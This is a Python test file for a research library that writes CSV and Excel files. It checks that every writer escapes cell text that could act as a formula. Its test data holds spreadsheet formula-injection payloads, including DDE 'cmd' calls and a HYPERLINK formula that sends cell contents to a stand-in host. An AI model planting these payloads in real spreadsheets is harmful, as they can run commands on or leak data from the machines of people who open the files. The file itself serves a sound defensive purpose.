"""No cell that the library writes for a spreadsheet is a formula, whoever wrote the text in it.

The writers are found in the source; each writes hostile texts here, and every cell is read back.
"""

from __future__ import annotations

import ast
import csv
import io
import sys
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from support import ROOT
from swresearch.bundles.extract import Sheet
from swresearch.bundles.tables import workbook
from swresearch.clean import Kind, Question, write_workbook
from swresearch.elearning import load_course
from swresearch.elearning.brightspace import brightspace
from swresearch.instruments import Instrument
from swresearch.programme import load_programme
from swresearch.publish.compare import write_differences
from swresearch.publish.stages import stage_data
from swresearch.score_file import score_file
from swresearch.spreadsheet import as_text, is_formula, put_text, texts_only

sys.path.append(str(Path(__file__).parent / "publish"))

from two_phases import change, write_small

SOURCE = ROOT / "src/swresearch"
CALLS = {"to_csv", "writer", "DictWriter", "Workbook", "to_excel", "ExcelWriter"}

ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://kwaad.example/?x="&A1;"klik")',
    "+31+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "＝1+1",
]
NUMBERS = ["-3", "+31", "-3,5", "=5", "-1.000", "5"]

INSTRUMENT = {
    "schema_version": 1,
    "title": "Kort",
    "answer_sets": {"ja": {"options": {1: "nee", 2: "ja"}}},
    "items": {name: {"wording": name, "answers": "ja"} for name in ("een", "twee")},
    "scales": {"beide": {"title": "=1+1", "items": ["een", "twee"], "method": "sum", "bounds": [2, 4]}},
}


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert is_formula(text)
    assert as_text(text) == f"'{text}".replace("\r", "\n").replace("\r", "\n")


@pytest.mark.parametrize("text", [*NUMBERS, "", "tekst =1+1", "'=1+1"])
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    assert as_text(text) == text


def test_names_of_columns_and_categories_are_texts_too() -> None:
    frame = pd.DataFrame({"=a": ["=1", None, "x"], "n": [1, 2, 3], "=a ": [-1.5, 0, 1]})
    frame["soort"] = pd.Categorical(["@x()", "goed", None])
    got = texts_only(frame)
    assert list(got.columns) == ["'=a", "n", "'=a ", "soort"]
    assert got["'=a"].tolist()[:1] == ["=1"]  # a sign and a number is a number
    assert got["soort"].tolist()[:2] == ["'@x()", "goed"]
    assert got.isna().sum().tolist() == [1, 0, 0, 1]
    assert "=a" in frame and frame["soort"].tolist()[0] == "@x()"


def test_a_text_stays_text_when_someone_edits_its_cell() -> None:
    sheet = openpyxl.Workbook().worksheets[0]
    for row, text in enumerate(("=1+1", "gewoon"), start=1):
        put_text(sheet.cell(row, 1), text)
    assert [(c.data_type, c.quotePrefix) for (c,) in sheet.iter_rows()] == [("s", True), ("s", False)]


# ---- Every writer ----


def of_score(folder: Path) -> Iterator[Path]:
    path = folder / "in.csv"
    names = ["=1+cmd|x", "nr", "een", "twee"]
    rows = [[attack, "1", "2", "1"] for attack in ATTACKS if "\r" not in attack]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, delimiter=";").writerows([names, *rows])
    for ending in (".csv", ".xlsx"):
        score_file(path, Instrument.model_validate(INSTRUMENT), folder / f"uit{ending}")
        yield folder / f"uit{ending}"


def of_decisions(folder: Path) -> Iterator[Path]:
    questions = [Question(Kind.ANSWER, "k", t, t, (), t, (t,)) for t in ATTACKS]
    write_workbook(folder / "besluiten.xlsx", questions)
    yield folder / "besluiten.xlsx"


def of_bundle(folder: Path) -> Iterator[Path]:
    frame = pd.DataFrame({"tekst": ATTACKS, "aantal": range(len(ATTACKS))})
    sheet = Sheet("gegevens", frame, {"tekst": "=1+1", "aantal": "@x"})
    (folder / "gegevens.xlsx").write_bytes(workbook([sheet], ATTACKS, "nl", date(2021, 1, 1)))
    yield folder / "gegevens.xlsx"


def of_questions(folder: Path) -> Iterator[Path]:
    answers = [
        {"text": f"{text} {i}", "feedback": text, "correct": i == 1} for i, text in enumerate(ATTACKS)
    ]
    lesson = {
        "schema_version": 1,
        "title": "Les",
        "aim": "Doel",
        "minutes": 5,
        "parts": [{"title": "Deel", "text": ["Tekst"]}],
        "remember": ["Dit"],
        "questions": {"een": {"kind": "single", "text": "=1+1", "answers": answers[:5]}},
    }
    course = {
        "schema_version": 1,
        "name": "cursus",
        "title": "Cursus",
        "summary": "Kort",
        "intro": ["In"],
        "pass_mark": 70,
        "lessons": ["les"],
        "licence": "CC",
    }
    (folder / "elearning").mkdir()
    for name, content in (("course", course), ("les", lesson)):
        text = yaml.safe_dump(content, allow_unicode=True)
        (folder / "elearning" / f"{name}.yml").write_text(text, encoding="utf-8")
    path = folder / "vragen.csv"
    path.write_bytes(brightspace(load_course(folder / "elearning")).encode())
    yield path


def of_changes(folder: Path) -> Iterator[Path]:
    """The log of changed cells: an answer that is a formula, settled by a rule."""
    programme = write_small(folder / "programme")
    answer = "=1+1+cmd|x"
    answers = (programme / "client.csv").read_text(encoding="utf-8").splitlines()
    answers[1] = ";".join([*answers[1].split(";")[:2], answer, *answers[1].split(";")[3:]])
    (programme / "client.csv").write_text("\n".join(answers), encoding="utf-8")
    rule = {"kind": "answer", "file": "client.csv", "found": answer, "decision": "eens", "reason": "x"}
    rules = yaml.safe_dump({"schema_version": 1, "decisions": [rule]})
    (programme / "rules.yml").write_text(rules, encoding="utf-8")
    change(programme / "programme.yml", "synthetic: true", "synthetic: true\nrules: rules.yml")
    stage_data(load_programme(programme), folder / "data", folder / "private")
    yield folder / "private" / "changes.csv"


def of_differences(folder: Path) -> Iterator[Path]:
    write_differences(
        pd.DataFrame({"person": [*ATTACKS, "tekst\r=1+1"], "old": 1.0}), folder / "verschillen.csv"
    )
    yield folder / "verschillen.csv"


WRITERS: dict[str, Callable[[Path], Iterator[Path]]] = {
    "score_file.py": of_score,
    "clean/workbook.py": of_decisions,
    "bundles/tables.py": of_bundle,
    "elearning/brightspace.py": of_questions,
    "publish/compare.py": of_differences,
    "publish/stages.py": of_changes,
}


def cells(path: Path) -> Iterator[tuple[str, bool]]:
    """Every text in the file, and whether a spreadsheet takes it for a formula."""
    if path.suffix == ".xlsx":
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                yield from ((str(c.value), c.data_type == "f") for c in row if c.value is not None)
        return
    text = path.read_bytes().decode("utf-8-sig")
    for row in csv.reader(
        io.StringIO(text, newline=""), delimiter=";" if ";" in text.partition("\n")[0] else ","
    ):
        yield from ((cell, is_formula(cell)) for cell in row)


@pytest.mark.parametrize("name", WRITERS)
def test_no_cell_of_any_writer_is_a_formula(name: str, tmp_path: Path, keys: Path) -> None:
    for path in WRITERS[name](tmp_path):
        found = list(cells(path))
        assert [text for text, formula in found if formula] == [], path.name
        assert any("1+" in text for text, _ in found), path.name  # the hostile text is there


def test_no_writer_is_forgotten() -> None:
    """A new module that writes CSV or Excel gets a row in `WRITERS`."""
    writing = set()
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                function = node.func
                name = (
                    function.attr
                    if isinstance(function, ast.Attribute)
                    else getattr(function, "id", "")
                )
                if name in CALLS:
                    writing.add(path.relative_to(SOURCE).as_posix())
    assert writing == set(WRITERS)
